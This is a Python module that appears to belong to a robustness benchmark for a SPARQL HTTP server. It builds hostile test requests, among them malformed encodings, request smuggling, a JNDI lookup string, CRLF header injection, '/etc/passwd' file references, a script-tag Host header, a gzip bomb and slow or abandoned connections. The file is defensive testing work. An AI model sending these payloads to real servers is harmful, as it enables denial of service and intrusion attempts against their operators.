"""Requests that abuse HTTP, text encodings, or the patience of the server."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

from benchmarks.hostile.case import ANY, DIRECT, FORM, OK, REFUSED, Case, http, post


def encodings() -> Iterator[Case]:
    """Bytes that are no text, and text that is no query."""
    bodies = {
        "not UTF-8": b'ASK { ?s ?p "\xff\xfe" }',
        "overlong": b'ASK { ?s ?p "\xc0\xaf" }',
        "a surrogate": b'ASK { ?s ?p "\xed\xa0\x80" }',
        "cut in a character": b'ASK { ?s ?p "\xe2\x82',
        "UTF-16": "ASK {}".encode("utf-16"),
        "UTF-32": "ASK {}".encode("utf-32"),
        "NUL": b'ASK { ?s ?p "\x00" }',
        "all control characters": b'ASK { ?s ?p "' + bytes(range(1, 10)) + b'" }',
        "nothing": b"",
        "blanks": b" \r\n\t" * 1000,
        "a program": bytes(range(256)) * 100,
    }
    for name, body in bodies.items():
        yield Case(kind="encoding", name=name, data=post(body), statuses=REFUSED | OK)
    yield Case(kind="encoding", name="a byte order mark", data=post("\ufeffASK {}"), statuses=REFUSED | OK)
    for escape in (r"\uD800", r"\U00110000", r"\uFFFE", r"\u0000", r"\u", r"\U0000", r"\uZZZZ"):
        yield Case(
            kind="encoding",
            name=f"escape {escape}",
            data=post(f'SELECT ("{escape}" AS ?x) {{}}'),
            statuses=REFUSED | OK,
        )
    for path in (
        "%",
        "%zz",
        "%00",
        "%ff",
        "ASK%20%7B%7D%0d%0aX-Evil:%20yes",
        "%C0%80",
        "&query=&query=",
        ";",
    ):
        yield Case(
            kind="encoding",
            name=f"address {path}",
            data=http("GET", f"/sparql?query={path}"),
            statuses=REFUSED,
        )
    direct = {"Content-Type": f"{DIRECT}; charset=utf-7"}
    yield Case(
        kind="encoding", name="UTF-7", data=http("POST", "/sparql", direct, b"+AEE-SK {}"), statuses=REFUSED
    )
    odd = 'SELECT ("' + "\u202e\u0007\u2028\ufeff" * 500 + '" AS ?x) {}'
    for media_type in (
        "application/sparql-results+xml",
        "text/csv",
        "application/json",
        "text/tab-separated-values",
    ):
        yield Case(
            kind="encoding",
            name=f"odd characters as {media_type}",
            data=post(odd, Accept=media_type),
            statuses=OK,
        )


def headers() -> Iterator[Case]:
    """Tricks with HTTP itself."""
    ask = "/sparql?query=ASK%7B%7D"
    plain = {
        "Accept of 10,000 ranges": {"Accept": ",".join(f"a/b{n};q=0.{n % 10}" for n in range(10_000))},
        "Accept that is none": {"Accept": ";;;,,,///q=q=q"},
        "quality that is no number": {"Accept": "text/csv;q=NaN, application/json;q=1e999, text/html;q=-1"},
        "Accept-Encoding bomb": {"Accept-Encoding": "gzip;q=0.5," * 1000},
        "a range": {"Range": "bytes=0-18446744073709551615"},
        "If-None-Match star": {"If-None-Match": "*"},
        "If-None-Match long": {"If-None-Match": '"x",' * 5000},
        "method override": {"X-HTTP-Method-Override": "DELETE", "X-Original-URL": "/admin"},
        "forwarded": {"X-Forwarded-For": "127.0.0.1, ${jndi:ldap://x}", "Forwarded": "for=unix:/etc/passwd"},
        "host with markup": {"Host": "<script>alert(1)</script>"},
        "expect": {"Expect": "200-maybe"},
        "upgrade": {
            "Upgrade": "h2c, websocket",
            "Connection": "Upgrade",
            "HTTP2-Settings": "AAMAAABkAARAAAAAAAIAAAAA",
        },
    }
    for name, known in plain.items():
        yield Case(kind="headers", name=name, data=http("GET", ask, known), silence=True)
    many = {f"X-{n}": "y" * 100 for n in range(2000)}
    yield Case(kind="headers", name="2,000 headers", data=http("GET", ask, many), silence=True)
    long = http("GET", "/sparql?query=" + "A" * 300_000)
    yield Case(kind="headers", name="an address of 300 kB", data=long, statuses=REFUSED, silence=True)
    for method in ("TRACE", "CONNECT", "DELETE", "PUT", "PATCH", "PROPFIND", "get", "G\x01T", "X" * 5000):
        yield Case(
            kind="headers",
            name=f"method {method[:8]!r}",
            data=http(method, ask),
            statuses=REFUSED,
            silence=True,
        )
    body = b"query=ASK%7B%7D"
    framings = {
        "negative length": {"Content-Length": "-1"},
        "length that is no number": {"Content-Length": "0x10"},
        "length of 10^18": {"Content-Length": "1" + "0" * 18},
        "length and chunks": {"Content-Length": "4", "Transfer-Encoding": "chunked"},
        "chunks of chunks": {"Transfer-Encoding": "chunked, chunked"},
        "unknown transfer": {"Transfer-Encoding": "gzip"},
        "chunk size that is no number": {"Transfer-Encoding": "chunked"},
    }
    for name, known in framings.items():
        data = http("POST", "/sparql", {"Content-Type": FORM} | known, b"zz\r\n" + body)
        yield Case(kind="headers", name=name, data=data, statuses=REFUSED, silence=True, leave_after=6)
    twice = http("POST", "/sparql", {"Content-Type": FORM, "content-type": DIRECT}, body)
    yield Case(kind="headers", name="two types", data=twice, statuses=REFUSED)
    smuggled = http("GET", ask, {"Connection": "keep-alive"}) + b"DELETE /sparql HTTP/1.1\r\nHost: x\r\n\r\n"
    yield Case(kind="headers", name="another request behind", data=smuggled)
    yield Case(
        kind="headers",
        name="no HTTP",
        data=b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        silence=True,
        leave_after=2,
    )
    yield Case(
        kind="headers",
        name="HTTP/2",
        statuses=ANY | {404},
        data=b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        silence=True,
        leave_after=2,
    )
    yield Case(
        kind="headers", name="HTTP/9.9", data=b"GET /sparql HTTP/9.9\r\n\r\n", silence=True, leave_after=2
    )


def bodies() -> Iterator[Case]:
    """Too much, too little, too slow, or not what it says."""
    form = {"Content-Type": FORM}
    yield Case(kind="bodies", name="8 MB", data=post(b"x" * 8_000_000), statuses=REFUSED, silence=True)
    fields = ("x=y&" * 50_000).encode()
    yield Case(
        kind="bodies", name="50,000 fields", data=http("POST", "/sparql", form, fields), statuses=REFUSED
    )
    graphs = ("default-graph-uri=http://e/g&" * 400 + "query=ASK%7B%7D").encode()
    yield Case(kind="bodies", name="400 default graphs", data=http("POST", "/sparql", form, graphs))
    odd = b"query=ASK%7B%7D&default-graph-uri=file:///etc/passwd&named-graph-uri=http://[::1"
    yield Case(
        kind="bodies", name="graphs that are none", data=http("POST", "/sparql", form, odd), statuses=REFUSED
    )
    multipart = b'--x\r\nContent-Disposition: form-data; name="query"\r\n\r\nASK {}\r\n--x--\r\n'
    kind = {"Content-Type": "multipart/form-data; boundary=x"}
    yield Case(
        kind="bodies", name="multipart", data=http("POST", "/sparql", kind, multipart), statuses=REFUSED
    )
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = packer.compress(b"#" * 50_000_000) + packer.flush()
    packed = http("POST", "/sparql", {"Content-Type": DIRECT, "Content-Encoding": "gzip"}, bomb)
    yield Case(kind="bodies", name="a bomb in gzip", data=packed, statuses=REFUSED)
    short = http("POST", "/sparql", {"Content-Type": DIRECT, "Content-Length": "100"}, b"ASK {}")
    yield Case(
        kind="bodies", name="less than was said", data=short, statuses=REFUSED, silence=True, leave_after=1
    )
    yield Case(kind="bodies", name="never the rest", data=short, statuses=REFUSED, silence=True)
    yield Case(
        kind="bodies",
        name="byte by byte",
        data=post("ASK {}"),
        statuses=OK | REFUSED,
        pace=0.01,
        silence=True,
    )
    chunk = b"%x\r\n%s\r\n" % (65536, b"#" * 65536)
    endless = {"Content-Type": DIRECT, "Transfer-Encoding": "chunked"}
    yield Case(
        kind="bodies",
        name="endless chunks",
        data=http("POST", "/sparql", endless, chunk * 200),
        statuses=REFUSED,
        silence=True,
    )
    tiny = http("POST", "/sparql", endless, b"1\r\n#\r\n" * 50_000 + b"0\r\n\r\n")
    yield Case(kind="bodies", name="50,000 chunks of a byte", data=tiny, statuses=ANY, silence=True)


def leavers() -> Iterator[Case]:
    """Clients that do not wait."""
    bomb = "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
    rows = "SELECT * { ?a ?b ?c . ?d ?e ?f }"
    for seconds in (0.0, 0.02, 0.1, 0.5):
        yield Case(
            kind="leavers", name=f"gone after {seconds}", data=post(bomb), times=25, leave_after=seconds
        )
    yield Case(kind="leavers", name="gone while it streams", data=post(rows), times=10, leave_after=0.3)
    yield Case(
        kind="leavers",
        name="half a head",
        data=b"POST /sparql HTTP/1.1\r\nHost: x\r\n",
        times=20,
        leave_after=0.5,
    )
    yield Case(kind="leavers", name="nothing at all", data=b"", times=50, leave_after=0.5)
    yield Case(
        kind="leavers",
        name="asks and never reads",
        data=post("SELECT * { ?a ?b ?c }"),
        times=5,
        leave_after=3,
    )
